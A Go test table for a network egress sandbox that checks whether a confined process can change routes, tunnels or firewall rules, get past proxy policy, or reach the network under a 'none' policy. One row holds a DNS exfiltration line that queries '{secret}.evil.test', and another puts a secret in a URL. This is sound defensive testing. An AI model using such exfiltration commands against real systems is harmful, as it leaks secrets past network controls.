package egress

// changing is a row that changes the network. Its control is a process that has
// every right in a network namespace of its own.
func changing(tries, verb string) row {
	return row{
		id: "E-1", tries: "to " + tries, rules: []string{"good.example.com:443"},
		run:  []string{"{probe}", "admin", verb},
		bare: "n/a: TestRights is the control", boxed: "EPERM|ENOENT|EAFNOSUPPORT|EPROTONOSUPPORT|EACCES|EROFS",
	}
}

var adminRows = []row{
	changing("add a route", "route"),
	changing("take away the route", "unroute"),
	changing("add a link", "link"),
	changing("ask nf_tables", "nft"),
	changing("make a tunnel", "tun"),
	changing("forward packets", "sysctl"),
	{
		id: "E-15", tries: "to see anything of the host's network", rules: []string{"good.example.com:443"},
		run:   []string{"{probe}", "facts"},
		quiet: true,
		bare:  "~h0 " + hostLAN + "/24",
		boxed: "~lo 127.0.0.1/8 29.77.0.1/32 ::1/128 route=0 ",
	},
	{
		id: "E-1", tries: "to take over a virtual address", rules: []string{"tcp://good.example.com:7000", "tcp://*.cdn.example.net:7000"},
		run:  []string{"{probe}", "squat", "good.example.com:7000", "29.77.0.1"},
		bare: "hello", boxed: "hello", heard: https("good.example.com", "good:7000"),
	},
}

// proxyRows go by way of an HTTP proxy of the host's network.
var proxyRows = []row{
	{
		id: "E-12", tries: "TLS by way of a proxy", rules: []string{"good.example.com:443"}, policy: "[network]\nproxy = \"http://user:pass@" + addressProxy + ":3128\"\n",
		run:   []string{"curl", "-sS", "https://good.example.com/"},
		boxed: "HTTP/2.0 https good.example.com", heard: []string{"tcp proxy:3128", "bytes proxy:3128", "connect good.example.com:443", "bytes good:443"},
	},
	{
		id: "E-12", tries: "another protocol by way of a proxy with a name", rules: []string{"tcp://good.example.com:22"}, policy: "[network]\nproxy = \"http://user:pass@proxy.corp.example:3128\"\n",
		run:   []string{"{probe}", "say", "tcp", "good.example.com:22", ""},
		boxed: "welcome", heard: []string{"dns proxy.corp.example", "tcp proxy:3128", "bytes proxy:3128", "connect good.example.com:22"},
	},
	{
		id: "E-12", tries: "a proxy that wants a password", rules: []string{"good.example.com:80"}, policy: "[network]\nproxy = \"http://" + addressProxy + ":3128\"\n",
		run:  []string{"curl", "-sS", "http://good.example.com/{secret}"},
		bare: "HTTP/1.1 http good.example.com", boxed: cut, heard: []string{"tcp proxy:3128", "bytes proxy:3128"},
		refused: []string{"failed tcp good.example.com:80"},
	},
	{
		id: "E-12", tries: "the proxy itself", rules: []string{"good.example.com:443"}, policy: "[network]\nproxy = \"http://user:pass@proxy.corp.example:3128\"\n",
		run:  []string{"{probe}", "dial", "tcp", addressProxy + ":3128", "proxy.corp.example:3128"},
		bare: "connected connected", boxed: "ECONNREFUSED NXDOMAIN",
		refused: []string{"refused tcp " + addressProxy + ":3128 allow " + addressProxy + ":3128", "refused dns proxy.corp.example allow proxy.corp.example:443"},
	},
	{
		id: "E-12", tries: "a proxy of the launcher's environment, which is not the policy's", rules: []string{"good.example.com:443"},
		env:   []string{"HTTPS_PROXY=http://user:pass@" + addressProxy + ":3128", "https_proxy=http://user:pass@" + addressProxy + ":3128", "ALL_PROXY=http://" + addressProxy + ":3128"},
		run:   []string{"curl", "-sS", "https://good.example.com/"},
		boxed: "HTTP/2.0 https good.example.com", heard: https("good.example.com", "good:443"),
	},
}

// noneRows have no network at all.
var noneRows = []row{
	{
		id: "E-16", tries: "addresses without a network", policy: none,
		run:  []string{"{probe}", "dial", "tcp", addressGood + ":443", "[" + addressSix + "]:443", "good.example.com:443"},
		bare: "connected connected connected", boxed: "ENETUNREACH ENETUNREACH DNS:server-misbehaving|~ENETUNREACH ENETUNREACH ",
	},
	{
		id: "E-16", tries: "name servers without a network", policy: none,
		run:  []string{"sh", "-c", "{probe} ask udp 8.8.8.8:53 A {secret}.evil.test; {probe} ask udp 127.0.0.1:53 A {secret}.evil.test; {probe} say tcp 127.0.0.1:53 x"},
		bare: addressEvil + " ECONNREFUSED ECONNREFUSED", boxed: "ENETUNREACH ECONNREFUSED ECONNREFUSED",
	},
	{
		id: "E-16", tries: "to see a network where there is none", policy: none,
		run:   []string{"{probe}", "facts"},
		quiet: true,
		bare:  "~h0 " + hostLAN + "/24",
		boxed: "lo 127.0.0.1/8 ::1/128 route=0 tcp=0 tcp6=0 udp=0 unix=0 arp=0|~lo 127.0.0.1/8 ::1/128 route=0 tcp=0 ",
	},
}

const none = "[network]\nmode = \"none\"\n"
